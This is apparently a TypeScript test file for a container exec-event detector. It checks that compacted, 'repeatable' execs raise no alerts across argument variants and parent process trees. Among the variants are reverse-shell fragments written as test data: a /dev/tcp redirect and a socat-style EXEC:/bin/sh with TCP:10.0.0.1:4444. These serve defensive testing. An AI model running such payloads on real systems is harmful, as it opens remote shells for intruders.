import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { ExecEvent, ProcessInfo } from '../model/index.js';
import { createDetector, parseDetectionRules } from './index.js';
import { CASES, CONTAINER, exec, proc } from './testdata/cases.js';

/**
 * Exec compaction takes the kernel's word that an exec repeats one the
 * agent judged: for `argv0`, any exec with the same file, path and argv[0]
 * (other arguments); for `argv`, the same arguments. Whatever the rules
 * say of the judged exec must then hold for those too, with any parent.
 */
const corpus: ExecEvent[] = [
  ...CASES.map((c) => c.event).filter((e): e is ExecEvent => e.kind === 'exec'),
  exec('/bin/true', ['true']),
  exec('/usr/bin/curl', ['curl', '-s', 'http://example.com/']),
  exec('/usr/bin/apt-get', ['apt-get', '--version']),
  exec('/usr/bin/python3', ['python3', 'app.py']),
  exec('/usr/bin/node', ['node', 'server.js']),
  exec('/bin/busybox', ['busybox', 'ls']),
  exec('/usr/bin/env', ['env']),
  exec('/usr/local/bin/app', ['app', '--serve']),
];
const argumentVariants: string[][] = [
  [],
  ['-c', 'id'],
  ['-e', '/bin/sh'],
  ['-m', 'pip', 'install', 'x'],
  ['install', 'x'],
  ['add', 'x'],
  ['-i', 'x.deb'],
  ['sh'],
  ['>& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['/usr/lib/node_modules/npm/bin/npm-cli.js', 'install'],
  ['-z', 'db', '5432'],
  ['EXEC:/bin/sh', 'TCP:10.0.0.1:4444'],
  ...corpus.map((e) => e.argv.slice(1)),
];
const trees: ProcessInfo[][] = [
  [],
  [proc(150, 100, '/bin/sh', ['sh', '-c', 'x']), proc(100, 1, '/bin/sh', ['sh', 'entry.sh'])],
  [proc(150, 100, '/usr/bin/python3', ['python3', 'app.py']), proc(100, 1, '/usr/bin/tini')],
  [proc(150, 1, '/usr/bin/apt-get', ['apt-get', 'install', 'x'])],
];

describe('Detector.repeatable', () => {
  const d = createDetector();
  const alerts = (e: ExecEvent, tree: readonly ProcessInfo[]): string[] =>
    d.detect(e, { container: CONTAINER, processTree: tree }).map((a) => a.rule);

  it('holds the built-in rules to their word: what it calls repeatable raises nothing, whatever the parent or the arguments it allows', () => {
    let argv0 = 0;
    let argv = 0;
    for (const e of corpus) {
      const how = d.repeatable(e, { container: CONTAINER, processTree: [] });
      if (how === 'none') continue;
      if (how === 'argv0') argv0++;
      else argv++;
      const variants =
        how === 'argv0' ? argumentVariants.map((v) => ({ ...e, argv: [e.argv[0] ?? '', ...v] })) : [e];
      for (const v of variants)
        for (const tree of trees) {
          assert.deepEqual(
            alerts(v, tree),
            [],
            `${JSON.stringify(v.argv)} of ${e.exe} under ${tree[0]?.exe ?? '-'}`,
          );
          assert.notEqual(
            d.repeatable(v, { container: CONTAINER, processTree: tree }),
            'none',
            v.argv.join(' '),
          );
        }
    }
    assert.ok(argv0 >= 3 && argv >= 3, `both kinds seen (argv0 ${argv0}, argv ${argv})`);
  });

  it('keeps the whole argv for programs whose arguments rules read, and nothing for what a rule matches', () => {
    const how = (exe: string, argv: string[]): string =>
      d.repeatable(exec(exe, argv), { container: CONTAINER, processTree: [] });
    assert.equal(how('/bin/true', ['true']), 'argv0');
    assert.equal(how('/usr/bin/curl', ['curl', 'http://x/']), 'argv0');
    assert.equal(how('/usr/bin/apt-get', ['apt-get', '--version']), 'argv');
    assert.equal(how('/usr/bin/python3', ['python3', 'app.py']), 'argv');
    assert.equal(how('/bin/busybox', ['busybox', 'ls']), 'argv');
    assert.equal(how('/usr/bin/apt-get', ['apt-get', 'install', 'x']), 'none');
    assert.equal(
      how('/bin/sh', ['sh', '-c', 'id']),
      'none',
      'a shell matches MR001 even where an exception lifts it',
    );
    assert.equal(how('/tmp/true', ['sh']), 'none', 'a program run under a shell name is judged by that name');
    assert.equal(
      d.repeatable({ ...exec('/bin/true', ['true']), kind: 'exit', exitCode: 0 } as never, {
        processTree: [],
      }),
      'none',
    );
  });

  it('never with a user rule on execs: its condition may look at anything', async () => {
    const rules = parseDetectionRules(
      await readFile(join(import.meta.dirname, 'testdata', 'rules.yaml'), 'utf8'),
      'rules.yaml',
    );
    const withUser = createDetector({ rules });
    assert.equal(
      withUser.repeatable(exec('/bin/true', ['true']), { container: CONTAINER, processTree: [] }),
      'none',
    );
  });
});
